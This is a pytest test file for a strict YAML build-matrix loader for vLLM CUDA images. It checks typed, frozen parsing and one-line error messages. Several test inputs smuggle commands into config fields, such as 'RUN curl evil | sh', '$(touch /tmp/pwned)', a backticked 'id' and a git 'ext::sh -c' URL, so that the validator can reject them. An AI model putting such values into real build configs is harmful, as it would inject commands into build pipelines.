"""The matrix loader: typed, frozen, strict; every bad input is one line naming file and key."""

from __future__ import annotations

from pathlib import Path

import pydantic
import pytest

from builder import matrix
from builder.errors import ConfigError
from tests.conftest import REPO

SRC = (REPO / "matrix.yaml").read_text()
PATH = Path("matrix.yaml")
DEVEL_DIGEST = "@sha256:38804006c937a83f28f63a959abcee688042072319c8614ad57b350958a30bd3"
COMMIT = "ced6857afa0ea7b2e3f0846a62e1394e90f15607"


def _error(text: str) -> str:
    with pytest.raises(ConfigError) as info:
        matrix.parse(text, PATH)
    message = info.value.message
    assert "\n" not in message, "errors are one line"
    assert message.startswith("matrix.yaml: ")
    assert info.value.exit_code == 2
    return message


def test_committed_matrix_loads_into_frozen_typed_objects():
    m = matrix.parse(SRC, PATH)
    t = m.target("cu129")
    assert t.source.commit == COMMIT
    assert t.bases.build.digest == DEVEL_DIGEST[1:]
    assert t.bases.build.ref == "nvidia/cuda:12.9.1-devel-ubuntu22.04" + DEVEL_DIGEST
    assert t.cuda.short == "cu129"
    assert t.torch.version == "2.13.0+cu129"
    assert t.python.version == "3.12"
    with pytest.raises(pydantic.ValidationError):
        t.owner = "someone@else.org"  # frozen


def test_defaults_block_fills_targets_but_target_wins():
    text = SRC.replace("  licenses: Apache-2.0\n", "  licenses: Apache-2.0\n  vendor: From Defaults\n")
    assert matrix.parse(text, PATH).target("cu129").vendor == "From Defaults"
    text = text.replace("    expires: 2027-06-30\n", "    expires: 2027-06-30\n    vendor: Own Vendor\n")
    assert matrix.parse(text, PATH).target("cu129").vendor == "Own Vendor"


@pytest.mark.parametrize(
    "old,new,expected",
    [
        ("    nvcc_threads: 8", "    nvcc_thread: 8",
         "targets.cu129.compile.nvcc_thread: unknown key (did you mean 'nvcc_threads'?)"),
        ("    expires: 2027-06-30", "    expire: 2027-06-30", "targets.cu129.expire: unknown key (did you mean 'expires'?)"),
        ("\ndefaults:\n", "\ndefualts:\n", "defualts: unknown key (did you mean 'defaults'?)"),
        (DEVEL_DIGEST, "", "targets.cu129.bases.build: must be pinned by digest"),
        (COMMIT, COMMIT[:7], "targets.cu129.source.commit: must be a full 40-character lowercase hex commit"),
        (COMMIT, "X" * 40, "targets.cu129.source.commit: must be a full 40-character"),
        ("expires: 2027-06-30", "expires: 2027-02-30", "targets.cu129.expires: must be a valid date"),
        ("expires: 2027-06-30", "expires: soon", "targets.cu129.expires: must be a valid date"),
        ('version: "3.12"', "version: 3.12", "targets.cu129.python.version: Input should be a valid string"),
        ("version: 2.13.0+cu129", 'version: "2.13.0\\nRUN curl evil | sh"', "targets.cu129.torch.version: must be a PEP 440"),
        ("version: 2.13.0+cu129", "version: 2.13.0+cu130", "targets.cu129.torch.version: local version"),
        ("branch: releases/v0.30.0", 'branch: "$(touch /tmp/pwned)"', "targets.cu129.source.branch: must be a branch"),
        ("branch: releases/v0.30.0", "branch: main`id`", "targets.cu129.source.branch"),
        ('arch_list: ["7.5",', 'arch_list: ["7.5\\nRUN x",', "targets.cu129.cuda.arch_list.0: must be a CUDA arch"),
        ("url: https://github.com/vllm-project/vllm.git", "url: ext::sh -c touch% /tmp/pwned",
         "targets.cu129.source.url: must be an https:// or file:// git URL"),
        ("index: https://download.pytorch.org/whl/cu129", "index: https://user:tok@download.pytorch.org/whl/cu129",
         "targets.cu129.torch.index: must be an https:// URL without credentials"),
        ("description: vLLM for Kimi K3 built against CUDA 12.9 for r575 hosts",
         "description: 'vLLM\" LABEL x=y'", "targets.cu129.description: must be plain text"),
        ("owner: gpu-platform@example.org", "owner: nobody", "defaults.owner (used by targets.cu129): must be an e-mail address"),
        ("    nvcc_threads: 8", '    nvcc_threads: "8"', "targets.cu129.compile.nvcc_threads: Input should be a valid integer"),
        ("version: 1\n", "version: 2\n", "version: Input should be 1"),
        ("  cu129:\n", "  CU 129:\n", "targets.'CU 129'.name: must be a target name"),
    ],
)
def test_bad_values_are_one_line_naming_the_key(old, new, expected):
    assert old in SRC
    assert expected in _error(SRC.replace(old, new, 1))


def test_missing_required_key():
    text = SRC.replace("      commit: " + COMMIT + "\n", "")
    assert _error(text).endswith("targets.cu129.source.commit: required key is missing")


def test_duplicate_keys_and_aliases_are_refused():
    dup = SRC.replace("    expiry_warning_days: 45\n", "    expiry_warning_days: 45\n    expires: 2030-01-01\n")
    assert "duplicate key 'expires'" in _error(dup)
    alias = SRC.replace("  owner: gpu-platform@example.org", "  owner: &o gpu-platform@example.org\n  vendor: *o")
    assert "aliases" in _error(alias)


def test_not_yaml_and_not_a_mapping():
    assert "invalid YAML" in _error("targets: [unclosed\n")
    assert "(top level)" in _error("- a\n- b\n")


def test_unknown_target_suggests():
    m = matrix.parse(SRC, PATH)
    with pytest.raises(ConfigError, match=r"unknown target 'cu128' \(did you mean 'cu129'\?\)"):
        m.target("cu128")


def test_wheel_platforms_cover_older_manylinux():
    t = matrix.parse(SRC, PATH).target("cu129")
    tags = t.python.wheel_platforms()
    assert tags[0] == "manylinux_2_35_x86_64"
    assert "manylinux_2_17_x86_64" in tags and "manylinux2014_x86_64" in tags
    assert "manylinux_2_36_x86_64" not in tags


def test_pinned_requirements_include_named_pins():
    t = matrix.parse(SRC, PATH).target("cu129")
    pins = t.pinned_requirements()
    assert "torch==2.13.0+cu129" in pins
    assert "nvidia-nccl-cu12==2.30.7" in pins
    assert list(pins) == sorted(pins, key=str.lower)
    assert t.lock_indexes()[0] == "https://pypi.org/simple"
    assert "https://download.pytorch.org/whl/cu129" in t.lock_indexes()


def test_load_reports_missing_file(tmp_path):
    with pytest.raises(ConfigError, match="no such file"):
        matrix.load(tmp_path / "nope.yaml")
